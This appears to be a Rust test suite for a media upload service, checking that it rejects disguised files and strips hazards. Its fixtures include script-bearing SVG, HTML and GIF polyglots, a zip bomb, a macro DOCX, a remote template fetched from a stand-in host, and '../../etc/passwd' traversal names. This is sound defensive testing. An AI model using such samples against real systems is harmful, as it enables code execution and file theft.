//! Files that are not what they say, or that could do something: refused, or made harmless.

use kith_inspection::testing::{
    DOCX_PARTS, docx, encoded, gif_with, mp3, mp4, mp4_box, pdf, picture, telling_jpeg, wav, zip,
};
use serde_json::json;

use crate::harness::{Scene, fetch, sha256};

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const SVG: &[u8] = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
const PAGE: &[u8] = b"<!doctype html><script>alert(1)</script>";

/// A text with one part more or other than it should have.
fn docx_with(name: &str, content: &str) -> Vec<u8> {
    let mut parts: Vec<(&str, Vec<u8>)> =
        DOCX_PARTS.iter().map(|(name, content)| (*name, content.as_bytes().to_vec())).collect();
    parts.retain(|(known, _)| *known != name);
    parts.push((name, content.as_bytes().to_vec()));
    zip(&parts)
}

fn remote_template() -> Vec<u8> {
    docx_with(
        "word/_rels/settings.xml.rels",
        r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>"#,
    )
}

/// A PNG that claims 50,000 × 50,000 pixels.
fn huge_png() -> Vec<u8> {
    let mut bytes = encoded(&picture(1, 1), image::ImageFormat::Png);
    bytes[16..20].copy_from_slice(&50_000_u32.to_be_bytes());
    bytes[20..24].copy_from_slice(&50_000_u32.to_be_bytes());
    // The check sum of that header.
    let sum = !bytes[12..29].iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| (sum >> 1) ^ (0xedb8_8320 & (sum & 1).wrapping_neg()))
    });
    bytes[29..33].copy_from_slice(&sum.to_be_bytes());
    bytes
}

#[tokio::test]
async fn what_is_not_what_it_says_is_refused() {
    let mut scene = Scene::new().await;
    let bomb = zip(&[DOCX_PARTS[0], DOCX_PARTS[2]]
        .map(|(name, content)| (name, content.as_bytes().to_vec()))
        .into_iter()
        .chain([("word/media/a.bin", vec![0; 201 << 20])])
        .collect::<Vec<_>>());
    let script_gif = b"GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(1)//".to_vec();
    for (what, kind, content_type, bytes) in [
        ("SVG as PNG", "image", "image/png", SVG.to_vec()),
        ("page as JPEG", "image", "image/jpeg", PAGE.to_vec()),
        ("script as GIF", "image", "image/gif", script_gif),
        ("huge picture", "image", "image/png", huge_png()),
        ("half a picture", "image", "image/jpeg", telling_jpeg(64, 64)[..200].to_vec()),
        ("PDF as picture", "image", "image/png", pdf()),
        ("picture as PDF", "file", "application/pdf", encoded(&picture(9, 9), image::ImageFormat::Png)),
        ("page behind a PDF", "file", "application/pdf", [&pdf()[..], PAGE].concat()),
        ("archive and PDF", "file", "application/pdf", [&pdf()[..], &docx(), b"startxref\n%%EOF"].concat()),
        ("macros", "file", DOCX, docx_with("word/vbaProject.bin", "x")),
        ("remote template", "file", DOCX, remote_template()),
        ("archive that unpacks to too much", "file", DOCX, bomb),
        ("plain archive", "file", DOCX, zip(&[("a.txt", b"x".to_vec())])),
        ("page in front of a document", "file", DOCX, [PAGE, &docx()[..]].concat()),
        ("page behind a video", "video", "video/mp4", [&mp4(&[], 64, 64, 1, false)[..], PAGE].concat()),
        ("page as video", "video", "video/mp4", PAGE.to_vec()),
        ("page behind a WAV", "audio", "audio/wav", [&wav(10)[..], PAGE].concat()),
        ("page as MP3", "audio", "audio/mpeg", PAGE.to_vec()),
        ("page with a frame in front", "audio", "audio/mpeg", [&mp3(1)[..], PAGE].concat()),
    ] {
        let reply = scene.ada.upload(kind, "x", content_type, &bytes).await;
        reply.refuse(what, 415, "unsupported_media");
        assert!(!reply.json()["detail"].as_str().unwrap().is_empty(), "{what}");
    }
    scene.assert_unchanged("bad files").await;
}

#[tokio::test]
async fn what_is_never_taken_is_refused_before_it_is_sent() {
    let scene = Scene::new().await;
    let good = json!({"kind": "image", "name": "a.png", "content_type": "image/png", "size_bytes": 10, "sha256": sha256(b"")});
    for (field, value, status, code) in [
        ("content_type", json!("image/svg+xml"), 415, "unsupported_media"),
        ("content_type", json!("text/html"), 415, "unsupported_media"),
        ("content_type", json!("application/pdf"), 415, "unsupported_media"),
        ("content_type", json!("application/vnd.ms-word.document.macroEnabled.12"), 415, "unsupported_media"),
        ("size_bytes", json!(0), 422, "validation_failed"),
        ("size_bytes", json!(-1), 422, "validation_failed"),
        ("size_bytes", json!((5 << 20) + 1), 413, "payload_too_large"),
        ("size_bytes", json!(u64::MAX), 413, "payload_too_large"),
        ("sha256", json!("00"), 422, "validation_failed"),
        ("sha256", json!(sha256(b"").to_uppercase()), 422, "validation_failed"),
        ("kind", json!("program"), 422, "validation_failed"),
        ("owner_id", json!("1"), 422, "unknown_field"),
    ] {
        let mut body = good.clone();
        body[field] = value.clone();
        scene.ada.post("/api/v1/media", &body).await.refuse(&format!("{field} {value}"), status, code);
    }
    let ids: Vec<String> = (1..=101).map(|id| id.to_string()).collect();
    scene.ada.post("/api/v1/media/urls", &json!({"ids": ids})).await.refuse("101", 422, "validation_failed");
}

#[tokio::test]
async fn names_are_made_harmless() {
    let scene = Scene::new().await;
    for (name, kind, content_type, bytes, expected) in [
        ("../../etc/passwd", "file", "application/pdf", pdf(), "passwd.pdf"),
        ("invoice.pdf.exe", "file", "application/pdf", pdf(), "invoice.pdf.exe.pdf"),
        ("x\u{202E}gpj.exe", "file", "application/pdf", pdf(), "xgpj.exe.pdf"),
        (
            "page.html",
            "image",
            "image/png",
            encoded(&picture(9, 9), image::ImageFormat::Png),
            "page.html.png",
        ),
        ("", "audio", "audio/wav", wav(10), "audio.wav"),
        // Said to be a JPEG, as browsers do by the name, but a PNG.
        (
            "photo.jpg",
            "image",
            "image/jpeg",
            encoded(&picture(9, 9), image::ImageFormat::Png),
            "photo.jpg.png",
        ),
    ] {
        let media = scene.ada.upload(kind, name, content_type, &bytes).await.expect(200);
        assert_eq!(media["name"], expected, "{name:?}");
    }
}

#[tokio::test]
async fn what_is_hidden_in_a_file_is_gone() {
    let scene = Scene::new().await;
    let place = mp4_box(b"udta", &mp4_box(b"\xa9xyz", b"\0\x12\x15\xc7+52.5200+013.4050/"));
    for (kind, content_type, bytes, secrets) in [
        (
            "image",
            "image/jpeg",
            telling_jpeg(64, 32),
            &[&b"Exif"[..], b"GPS", b"secret comment", b"<script>"][..],
        ),
        ("image", "image/gif", gif_with(b"\x21\xfe\x08<script>\x00", PAGE), &[b"<script>", b"doctype"]),
        ("video", "video/mp4", mp4(&place, 64, 64, 1, false), &[b"udta", b"+52.5200"]),
    ] {
        let contains = |bytes: &[u8], part: &[u8]| bytes.windows(part.len()).any(|window| window == part);
        assert!(secrets.iter().all(|secret| contains(&bytes, secret)), "the test itself");
        let media = scene.ada.upload(kind, "x", content_type, &bytes).await.expect(200);
        let url = scene.ada.locate(media["id"].as_str().unwrap()).await.unwrap();
        let kept = fetch(&url).await.body;
        for secret in secrets {
            assert!(!contains(&kept, secret), "{}", secret.escape_ascii());
        }
    }
}
